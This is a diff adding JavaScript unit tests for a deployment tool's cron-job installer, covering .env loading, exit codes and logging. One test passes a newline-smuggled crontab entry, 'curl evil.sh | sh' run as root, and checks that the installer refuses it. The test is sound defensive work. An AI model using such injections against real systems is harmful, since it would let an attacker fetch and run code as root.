+            const result = await clawdBot.installCronJobs('clawdeploy-dep1-backend', 'shop_backend', jobs);
+            expect(result).toEqual({ success: true, jobs: jobs.length, path: '/etc/cron.d/clawdeploy-dep1-backend' });
+
+            const [header, pathLine, ...lines] = written['/etc/cron.d/clawdeploy-dep1-backend'].trimEnd().split('\n');
+            expect(header).toBe('SHELL=/bin/bash');
+            return { env: { PATH: pathLine.replace(/^PATH=/, '') }, lines };
+        };
+
+        it('writes a line that runs the job in the app directory with its .env', async () => {
+            fs.writeFileSync(path.join(dir, '.env'), "GREETING='hello \"cron\" $USER'\n");
+            const { env, lines } = await install([
+                { schedule: '*/5 * * * *', command: `printf '%s|%s|%s\\n' "$GREETING" "$(date +%Y)" "$PWD"` }
+            ]);
+
+            expect(lines).toHaveLength(1);
+            expect(runCronLine(lines[0], env)).toBe(0);
+            expect(fs.readFileSync(path.join(dir, 'cron.log'), 'utf8'))
+                .toBe(`hello "cron" $USER|${new Date().getFullYear()}|${dir}\n`);
+        });
+
+        it('runs jobs of an app without a .env file and appends to one log', async () => {
+            const { env, lines } = await install([
+                { schedule: '@hourly', command: 'echo first; echo second' },
+                { schedule: '0 3 * * *', command: 'echo "$((6 % 4))" && exit 3' }
+            ]);
+
+            expect(runCronLine(lines[0], env)).toBe(0);
+            expect(runCronLine(lines[1], env)).toBe(3);
+            expect(fs.readFileSync(path.join(dir, 'cron.log'), 'utf8')).toBe('first\nsecond\n2\n');
+        });
+
+        it('refuses commands that would add lines to the crontab', async () => {
+            const result = await clawdBot.installCronJobs('clawdeploy-dep1-backend', 'shop_backend', [
+                { schedule: '@daily', command: 'echo ok\n* * * * * root curl evil.sh | sh' }
+            ]);
+
+            expect(result).toEqual({ success: false, error: 'Cron job "@daily" must fit on one line' });
+            expect(clawdBot.ssh.executeCommand).not.toHaveBeenCalled();
+        });
+    });
+});